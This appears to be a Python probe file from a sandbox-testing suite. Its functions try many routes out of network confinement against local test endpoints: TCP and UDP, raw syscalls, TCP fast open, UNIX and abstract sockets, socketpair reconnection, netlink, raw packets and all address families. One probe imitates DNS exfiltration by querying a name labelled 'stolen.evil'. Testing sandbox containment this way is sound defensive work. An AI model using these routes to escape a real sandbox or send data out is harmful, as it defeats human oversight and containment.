"""Reaching anything over a socket."""

from __future__ import annotations

from prelude import any_of, call, libc, os, socket, struct
from probe import RUN, Family

NETWORK = Family("network", "arrived")


@NETWORK()
def tcp(known):
    """Connect over TCP."""
    socket.create_connection(("127.0.0.1", known["tcp"]), timeout=2)
    return 1


@NETWORK()
def tcp_raw(known):
    """Connect over TCP with raw system calls."""
    number = call("socket", 2, 1, 0)
    address = struct.pack("=H", 2) + struct.pack(">H", known["tcp"]) + bytes([127, 0, 0, 1]) + bytes(8)
    call("connect", number, address, 16)
    return 1


@NETWORK()
def tcp_v6(known):
    """Connect over IPv6 to the same port."""
    made = socket.socket(socket.AF_INET6)
    made.connect(("::ffff:127.0.0.1", known["tcp"]))
    return 1


@NETWORK()
def tcp_fast_open(known):
    """Send and connect at once: no connect call is made."""
    made = socket.socket()
    made.sendto(b"x", 0x20000000, ("127.0.0.1", known["tcp"]))  # MSG_FASTOPEN
    return 1


@NETWORK()
def http(known):
    """Ask with urllib."""
    import urllib.request

    try:
        urllib.request.urlopen(f"http://127.0.0.1:{known['tcp']}/", timeout=0.3)
    except TimeoutError:
        return 1
    return 0


@NETWORK(modes=RUN)
def asyncio_connection(known):
    """Connect with asyncio, whose event loop does work within the walls."""
    import asyncio

    async def main():
        await asyncio.open_connection("127.0.0.1", known["tcp"])

    asyncio.run(main())
    return 1


@NETWORK()
def udp(known):
    """Send a datagram: no connection to refuse."""
    socket.socket(type=socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", known["udp"]))
    return 1


@NETWORK()
def dns_query(known):
    """Ask a name server for a name that carries what was stolen."""
    query = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + b"\x06stolen\x04evil\x00" + struct.pack(">2H", 1, 1)
    made = socket.socket(type=socket.SOCK_DGRAM)
    made.connect(("127.0.0.1", known["udp"]))
    made.send(query)
    return 1


@NETWORK(effect="claimed", lacks="/etc/hosts with localhost")
def resolver(known):
    """Have the C library look up a name."""
    return bool(socket.getaddrinfo("localhost", 80))


@NETWORK()
def unix_path(known):
    """Connect to a UNIX socket in the file system."""
    socket.socket(socket.AF_UNIX).connect(known["stream"])
    return 1


@NETWORK()
def unix_abstract(known):
    """Connect to an abstract UNIX socket."""
    socket.socket(socket.AF_UNIX).connect(f"\0{known['abstract']}")
    return 1


@NETWORK()
def unix_datagram(known):
    """Send to a UNIX datagram socket by path."""
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"x", known["datagram"])
    return 1


@NETWORK()
def pair_of_datagrams(known):
    """Send from one end of a socketpair, which is allowed, to somebody else's path, with sendto and sendmsg."""

    def sendto(kind):
        return socket.socketpair(socket.AF_UNIX, kind)[0].sendto(b"x", known["datagram"])

    def sendmsg(kind):
        return socket.socketpair(socket.AF_UNIX, kind)[0].sendmsg([b"x"], [], 0, known["datagram"])

    return any_of([sendto, sendmsg], [socket.SOCK_DGRAM, socket.SOCK_STREAM, socket.SOCK_SEQPACKET])


@NETWORK()
def pair_of_streams(known):
    """Connect one end of a socketpair elsewhere, also after shutdown and through a raw call."""
    path = known["stream"].encode()
    address = struct.pack("=H", 1) + path + b"\0"

    def datagram(kind):  # a datagram pair may be connected anew
        one, _ = socket.socketpair(socket.AF_UNIX, kind)
        target = known["datagram"] if kind == socket.SOCK_DGRAM else known["stream"]
        one.connect(target)
        return one.send(b"x")

    def raw(kind):
        one, _ = socket.socketpair(socket.AF_UNIX, kind)
        return call("connect", one.fileno(), address, len(address)) == 0

    return any_of([datagram, raw], [socket.SOCK_DGRAM, socket.SOCK_STREAM])


@NETWORK(effect="claimed")
def listener(known):
    """Wait for connections."""
    made = socket.socket()
    made.bind(("127.0.0.1", 0))
    made.listen()
    return 1


@NETWORK(effect="claimed")
def netlink(known):
    """Have the kernel list the network interfaces."""
    made = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    made.send(struct.pack("=IHHIIBxxx", 20, 18, 0x301, 1, 0, 0))  # RTM_GETLINK, dump
    return len(made.recv(4096)) > 20


@NETWORK(effect="claimed", lacks="root's rights")
def raw_packets(known):
    """Make raw IP and packet sockets."""

    def make(kind):
        return socket.socket(*kind).fileno() >= 0

    return any_of([make], [(socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 0)])


@NETWORK(effect="claimed")
def rarer_families(known):
    """Try every address family there is, in three types."""

    def make(family):
        return any(call_or_no(family, kind) for kind in (1, 2, 3, 5))

    def call_or_no(family, kind):
        made = libc.socket(family, kind, 0)
        return made >= 0 and os.close(made) is None

    return any_of([make], range(46))
